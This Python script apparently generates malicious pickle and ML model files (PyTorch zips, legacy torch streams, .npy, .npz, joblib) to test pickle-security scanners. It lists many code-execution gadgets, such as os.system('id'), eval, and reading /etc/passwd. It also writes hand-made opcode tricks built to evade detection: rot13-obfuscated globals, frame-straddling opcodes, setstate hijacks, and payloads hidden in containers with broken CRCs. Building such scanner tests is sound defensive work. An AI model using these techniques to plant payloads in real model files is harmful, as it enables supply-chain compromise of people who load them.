"""Writes malicious pickles and ML files into OUTDIR, built as the public
advisories and scanner test suites describe them (picklescan's, fickling's
and modelscan's advisories, the GHSA reports behind them, and the gadgets
of issue 15): gadget calls written by CPython's pickler at protocols 0, 2
and 4 through stand-in modules (nothing is imported or run), hand-made
opcode tricks, and the same payloads hidden in the containers ML tools
load: PyTorch zips (with broken CRCs, flags, other names), legacy
`torch.save` streams, `.npy`, `.npz`, joblib dumps plain and compressed.
Nothing here is ever loaded.

Usage: malicious_artifacts.py OUTDIR
"""
import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import types
import zipfile
import zlib

import malicious
import torch_format

# (module, qualified name, args): what each advisory calls.
GADGETS = [
    ("os", "system", ("id",)),
    ("posix", "system", ("id",)),
    ("nt", "system", ("id",)),
    ("subprocess", "Popen", (["id"],)),
    ("subprocess", "run", (["id"],)),
    ("subprocess", "check_output", (["id"],)),
    ("pty", "spawn", ("id",)),
    ("commands", "getoutput", ("id",)),
    ("builtins", "eval", ("1+1",)),
    ("builtins", "exec", ("x=1",)),
    ("builtins", "compile", ("1", "f", "eval")),
    ("builtins", "open", ("/etc/passwd",)),
    ("builtins", "__import__", ("os",)),
    ("builtins", "breakpoint", ()),
    ("builtins", "setattr", (None, "x", 1)),
    ("__builtin__", "eval", ("1+1",)),
    ("uuid", "_get_command_stdout", ("id",)),
    ("_osx_support", "_read_output", ("id",)),
    ("_osx_support", "_find_build_tool", ("id",)),
    ("_aix_support", "_read_cmd_output", ("id",)),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", ("x=1",)),
    ("idlelib.run", "Executive.runcode", ("x=1",)),
    ("idlelib.calltip", "get_entity", ("os",)),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", ("x",)),
    ("lib2to3.pgen2.grammar", "Grammar.loads", (b"x",)),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", ("x",)),
    ("logging", "FileHandler", ("/tmp/owned",)),
    ("logging.handlers", "SocketHandler", ("127.0.0.1", 9)),
    ("logging.config", "listen", (9,)),
    ("_interpreters", "run_string", (0, "x=1")),
    ("_xxsubinterpreters", "run_string", (0, "x=1")),
    ("random", "_os.system", ("id",)),
    ("test.support.script_helper", "assert_python_ok", ("-c", "1")),
    ("_pyrepl.pager", "pipe_pager", ("x", "id")),
    ("torch.hub", "load", ("evil/repo", "model")),
    ("torch.serialization", "load", ("other.pt",)),
    ("torch", "load", ("other.pt",)),
    ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "id"])),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ("x=1",)),
    ("torch._dynamo.guards", "GuardBuilder.get", ("x",)),
    ("torch.utils._config_module", "ConfigModule.load_config", (b"x",)),
    ("torch.utils.collect_env", "run", ("id",)),
    ("torch.utils.bottleneck.__main__", "run_cprofile", ("x=1", {})),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ("x", [])),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"x")),
    ("torch.utils.cpp_extension", "load_inline", ("x", "")),
    ("torch.storage", "_load_from_bytes", (b"x",)),
    ("numpy.testing._private.utils", "runstring", ("x=1", {})),
    ("numpy.f2py.crackfortran", "getlincoef", ("__import__('os')", {})),
    ("numpy.f2py.crackfortran", "_eval_length", ("1", {})),
    ("numpy", "load", ("x.npy",)),
    ("numpy.lib.npyio", "load", ("x.npy",)),
    ("numpy.ctypeslib", "load_library", ("libc", ".")),
    ("requests.api", "get", ("http://127.0.0.1/",)),
    ("requests", "get", ("http://127.0.0.1/",)),
    ("aiohttp.client", "ClientSession", ()),
    ("pandas", "read_csv", ("http://127.0.0.1/x.csv",)),
    ("pandas", "read_pickle", ("x.pkl",)),
    ("pandas.io.parsers.readers", "read_csv", ("http://127.0.0.1/x.csv",)),
    ("pandas", "eval", ("1+1",)),
    ("pandas.core.computation.eval", "eval", ("1+1",)),
    ("mlflow.pyfunc", "load_model", ("runs:/x",)),
    ("mlflow.sklearn", "load_model", ("runs:/x",)),
    ("joblib", "load", ("x.joblib",)),
    ("joblib.numpy_pickle", "load", ("x.joblib",)),
    ("pickle", "loads", (b"N.",)),
    ("_pickle", "loads", (b"N.",)),
    ("dill", "loads", (b"N.",)),
    ("cloudpickle.cloudpickle", "_make_function", (None, {}, None, None, None)),
    ("cloudpickle.cloudpickle", "subimport", ("os",)),
    ("marshal", "loads", (b"N",)),
    ("types", "CodeType", (0,)),
    ("types", "FunctionType", (None, {})),
    ("runpy", "_run_code", ("x=1", {})),
    ("runpy", "run_path", ("/tmp/x.py",)),
    ("code", "InteractiveInterpreter.runcode", ("x=1",)),
    ("codeop", "compile_command", ("x=1",)),
    ("cProfile", "run", ("x=1",)),
    ("profile", "run", ("x=1",)),
    ("timeit", "timeit", ("x=1",)),
    ("trace", "Trace.run", ("x=1",)),
    ("pdb", "run", ("x=1",)),
    ("bdb", "Bdb.run", ("x=1",)),
    ("doctest", "debug_script", ("x=1",)),
    ("ensurepip", "_run_pip", (["install", "x"],)),
    ("pip", "main", (["install", "x"],)),
    ("pydoc", "pipepager", ("x", "id")),
    ("pydoc", "locate", ("os.system",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("importlib", "import_module", ("os",)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("webbrowser", "open", ("http://127.0.0.1/",)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("ssl", "get_server_certificate", (("127.0.0.1", 443),)),
    ("smtplib", "SMTP", ("127.0.0.1", 25)),
    ("imaplib", "IMAP4_stream", ("id",)),
    ("ftplib", "FTP", ("127.0.0.1",)),
    ("poplib", "POP3", ("127.0.0.1",)),
    ("telnetlib", "Telnet", ("127.0.0.1",)),
    ("nntplib", "NNTP", ("127.0.0.1",)),
    ("http.client", "HTTPSConnection", ("127.0.0.1",)),
    ("httplib", "HTTPSConnection", ("127.0.0.1",)),
    ("urllib.request", "urlopen", ("http://127.0.0.1/",)),
    ("urllib.request", "urlretrieve", ("http://127.0.0.1/", "/tmp/x")),
    ("xmlrpc.client", "ServerProxy", ("http://127.0.0.1/",)),
    ("shutil", "rmtree", ("/tmp/x",)),
    ("tempfile", "mktemp", ()),
    ("glob", "glob", ("/etc/*",)),
    ("fileinput", "input", ("/etc/passwd",)),
    ("linecache", "getline", ("/etc/passwd", 1)),
    ("tarfile", "open", ("/tmp/x.tar",)),
    ("zipfile", "ZipFile", ("/tmp/x.zip",)),
    ("sqlite3", "connect", ("/tmp/x.db",)),
    ("shelve", "open", ("/tmp/x",)),
    ("io", "FileIO", ("/etc/passwd",)),
    ("_io", "FileIO", ("/etc/passwd",)),
    ("io", "open", ("/etc/passwd",)),
    ("codecs", "open", ("/etc/passwd",)),
    ("distutils.file_util", "write_file", ("/tmp/x", ["x"])),
    ("asyncio", "create_subprocess_shell", ("id",)),
    ("asyncio.subprocess", "create_subprocess_exec", ("id",)),
    ("multiprocessing", "Process", ()),
    ("threading", "Thread", ()),
    ("signal", "raise_signal", (9,)),
    ("sys", "exit", (0,)),
    ("gc", "get_objects", ()),
    ("operator", "attrgetter", ("system",)),
    ("operator", "methodcaller", ("system", "id")),
    ("_operator", "attrgetter", ("system",)),
    ("platform", "popen", ("id",)),
    ("yaml", "load", ("!!python/object/apply:os.system ['id']",)),
    ("yaml", "unsafe_load", ("x",)),
    ("jsonpickle", "decode", ("{}",)),
    ("numexpr", "evaluate", ("1+1",)),
    ("sympy", "sympify", ("1+1",)),
    ("copyreg", "add_extension", ("os", "system", 1)),
    ("types", "MethodType", (None, None)),
    ("tkinter", "Tk", ()),
    ("antigravity", "geohash", (1, 2, b"x")),
    ("numpy.core", "_ufunc_reconstruct", ("os", "system")),
    ("builtins", "object.__subclasses__", ()),
    ("inspect", "getsource", (None,)),
    ("setuptools.sandbox", "run_setup", ("setup.py", [])),
    ("venv", "create", ("/tmp/v",)),
]


class Reducer:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def stand_in(module, qualname):
    """A function that pickles as `module.qualname`, registered in stand-in
    modules that replace the real ones while it is pickled."""
    saved = {}
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        saved[name] = sys.modules.get(name)
        sys.modules[name] = types.ModuleType(name)
    fn = lambda *a: None  # noqa: E731
    fn.__module__ = module
    fn.__qualname__ = qualname
    holder = sys.modules[module]
    *outer, last = qualname.split(".")
    # Classes hold nested names, as they do in the real modules.
    for i, part in enumerate(outer):
        cls = type(part, (), {"__module__": module, "__qualname__": ".".join(outer[: i + 1])})
        setattr(holder, part, cls)
        holder = cls
    setattr(holder, last, fn)
    return fn, saved


def gadget_pickle(module, qualname, args, protocol):
    if module == "builtins":
        # Pickle itself needs the real builtins: pickle the real function.
        target = __builtins__
        for part in qualname.split("."):
            target = getattr(target, part)
        return pickle.dumps(Reducer(target, args), protocol=protocol)
    fn, saved = stand_in(module, qualname)
    try:
        return pickle.dumps(Reducer(fn, args), protocol=protocol)
    finally:
        for name, old in saved.items():
            if old is None:
                del sys.modules[name]
            else:
                sys.modules[name] = old


def short(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def framed(body, declared):
    return b"\x80\x05\x95" + struct.pack("<Q", declared) + body


SYSTEM_P2 = gadget_pickle("os", "system", ("id",), 2)
EVAL_P2 = gadget_pickle("builtins", "eval", ("__import__('os').system('id')",), 2)

TRICKS = {
    # BUILD on a module replaces what later loads call.
    "build_on_module": b"\x80\x02ctorch\n_utils\nN}X\x12\x00\x00\x00_rebuild_tensor_v2cnumpy\nfrombuffer\ns\x86b.",
    "build_on_function": b"\x80\x02cnumpy\nprod\n}X\x07\x00\x00\x00__doc__X\x01\x00\x00\x00xsb.",
    # STACK_GLOBAL on names that calls return: _codecs.encode('bf', 'rot13') is 'os'.
    "stack_global_rot13": b"\x80\x04" + short("_codecs") + short("encode") + b"\x93" + short("bf") + short("rot13") + b"\x86R"
    + short("_codecs") + short("encode") + b"\x93" + short("flfgrz") + short("rot13") + b"\x86R\x93" + short("id") + b"\x85R.",
    "stack_global_str_call": b"\x80\x04" + short("builtins") + short("str") + b"\x93\x94" + short("os") + b"\x85Rh\x00" + short("system") + b"\x85R\x93" + short("id") + b"\x85R.",
    # getattr reaching through, and escaping.
    "getattr_escapes_as_result": b"\x80\x02cbuiltins\ngetattr\n.",
    "getattr_in_list": b"\x80\x02]cbuiltins\ngetattr\na.",
    "getattr_of_module_attribute": b"\x80\x02cbuiltins\ngetattr\ncrandom\n_os\nX\x06\x00\x00\x00system\x86RX\x02\x00\x00\x00id\x85R.",
    # Calling what a call returned.
    "call_of_call_result": b"\x80\x02cbuiltins\nsorted\n]\x85R)R.",
    # A benign pickle, then a malicious one: only a loop of loads sees it.
    "benign_then_system": pickle.dumps({"a": 1}, 2) + SYSTEM_P2,
    "benign_then_eval_p4": pickle.dumps([1, 2, 3], 4) + gadget_pickle("builtins", "eval", ("1",), 4),
    "three_then_system": pickle.dumps(1, 2) + pickle.dumps("x", 2) + pickle.dumps(None, 2) + SYSTEM_P2,
    # Opcodes across a FRAME's end (CPython issue 154848): `pickle.load` of an
    # unbuffered file reads the bytes after the frame.
    "frame_straddle_hidden_global": b"\x80\x05N(\x95\x02\x00\x00\x00\x00\x00\x00\x00B\x07\x01\x00\x00\x00\x00"
    + (b"cos\nsystem\nVid\n\x85R(").ljust(261, b"N") + b"1.",
    "frame_straddle_unicode": framed(b"\x8c\x14" + b"A" * 20, 3) + b".",
    "frame_straddle_global": framed(b"cos\nsystem\n", 7) + b"N.",
    "frame_inside_frame": b"\x80\x05\x95\x1e\x00\x00\x00\x00\x00\x00\x00N\x95\x02\x00\x00\x00\x00\x00\x00\x00N.",
    # Extension codes and persistent ids hide names.
    "ext1_call": b"\x80\x02\x82\x01X\x02\x00\x00\x00id\x85R.",
    "persistent_call": b"\x80\x02X\x03\x00\x00\x00pidQX\x02\x00\x00\x00id\x85R.",
    # INST and OBJ forms; a call discarded by POP still runs.
    "inst_system": b"(S'id'\nios\nsystem\n.",
    "obj_pop": b"\x80\x04(" + short("smtplib") + short("SMTP") + b"\x93" + short("127.0.0.1") + b"o0N.",
    # A dunder state: BUILD sets __setstate__, the next BUILD calls it.
    "build_setstate": b"\x80\x02c__main__\nInnocent\n)\x81N}X\x0c\x00\x00\x00__setstate__cos\nsystem\ns\x86bX\x02\x00\x00\x00idb.",
    # A name too long to be real hides what it reaches.
    "long_name": b"\x80\x04" + short("os") + b"X" + struct.pack("<I", 272) + b"system." * 38 + b"system" + b"\x93.",
    # A dangerous call, then bytes that break: Python has run the call.
    "system_then_garbage": SYSTEM_P2[:-1] + b"\xff\xfe",
}


def torch_zip(data_pkl, prefix="archive", crc_ok=True, flag=0, extra=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/version", "3\n")
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return torch_format.corrupt(out.getvalue(), bad_crc=not crc_ok, flag=flag)


def npy_object(payload):
    """A .npy of an object array whose pickle is `payload`."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(118, b" ") + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def joblib_like(payload_after_array):
    """A joblib dump of one float array, then `payload_after_array` spliced
    where the pickle goes on after the array's bytes."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump([np.arange(4.0)], buf)
    data = buf.getvalue()
    # The list's pickle ends `... APPEND STOP`-like; insert a call before STOP.
    assert data.endswith(b"a.") or data.endswith(b"e.") or data.endswith(b"."), data[-4:]
    return data[:-1] + b"0" + payload_after_array[2:]  # POP the list, then the payload's own opcodes


def main(out):
    os.makedirs(out, exist_ok=True)
    count = 0

    def write(name, data):
        nonlocal count
        count += 1
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)

    for module, name, args in GADGETS:
        for proto in (0, 2, 4):
            write(f"gadget_{module}.{name}.p{proto}.pkl", gadget_pickle(module, name, args, proto))
    for label, data in TRICKS.items():
        write(f"trick_{label}.pkl", data)
    for label, data in malicious.HANDMADE.items():
        write("shape_" + label.replace(" ", "_") + ".pkl", data)
    for label, obj in malicious.REDUCERS.items():
        write("reducer_" + label.replace(" ", "_") + ".pkl", pickle.dumps(obj, protocol=4))

    # Containers.
    T = torch_format
    write("torch_eval.pt", torch_zip(EVAL_P2))
    write("torch_eval_bad_crc.pt", torch_zip(EVAL_P2, crc_ok=False))
    write("torch_eval_flag_encrypted.pt", torch_zip(EVAL_P2, flag=0x01))
    write("torch_eval_flag_0x20.pt", torch_zip(EVAL_P2, flag=0x20))
    write("torch_eval_other_prefix.bin", torch_zip(EVAL_P2, prefix="model_v2"))
    write("torch_eval.zip", torch_zip(EVAL_P2))
    write("torch_eval_no_extension", torch_zip(EVAL_P2))
    write("torch_benign_plus_evil_member.pt", torch_zip(pickle.dumps({"a": 1}, 2), extra={"archive/extra.pkl": SYSTEM_P2}))
    sd = T.state_dict([("w", T.Tensor("FloatStorage", [1.0, 2.0], (2,)))])
    legacy = T.save_legacy(sd)
    write("torch_legacy_then_system.pt", legacy + SYSTEM_P2)
    magic = pickle.dumps(T.MAGIC_NUMBER, 2) + pickle.dumps(T.PROTOCOL_VERSION, 2) + pickle.dumps({}, 2)
    write("torch_legacy_evil_object.pt", magic + SYSTEM_P2 + pickle.dumps([], 2))
    write("torch_zip_legacy_evil_inside.pt", torch_zip(pickle.dumps({"a": 1}, 2), extra={"archive/nested.pt": magic + EVAL_P2 + pickle.dumps([], 2)}))
    write("npy_object_system.npy", npy_object(SYSTEM_P2))
    write("npy_object_eval_p4.npy", npy_object(gadget_pickle("builtins", "eval", ("1",), 4)))
    for compression in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression) as z:
            z.writestr("ok.npy", npy_object(pickle.dumps([1], 2)))
            z.writestr("evil.npy", npy_object(SYSTEM_P2))
        write(f"npz_evil_{compression}.npz", buf.getvalue())
    write("joblib_system_after_array.joblib", joblib_like(SYSTEM_P2))
    write("joblib_system.gz.joblib", gzip.compress(SYSTEM_P2))
    write("joblib_system.z.joblib", zlib.compress(SYSTEM_P2))
    write("joblib_system.bz2.joblib", bz2.compress(SYSTEM_P2))
    write("joblib_system.xz.joblib", lzma.compress(SYSTEM_P2))
    write("joblib_system.lzma.joblib", lzma.compress(SYSTEM_P2, format=lzma.FORMAT_ALONE))
    write("pandas_eval.pkl.xz", lzma.compress(EVAL_P2))
    print(count, "malicious artifacts", file=sys.stderr)


if __name__ == "__main__":
    main(sys.argv[1])
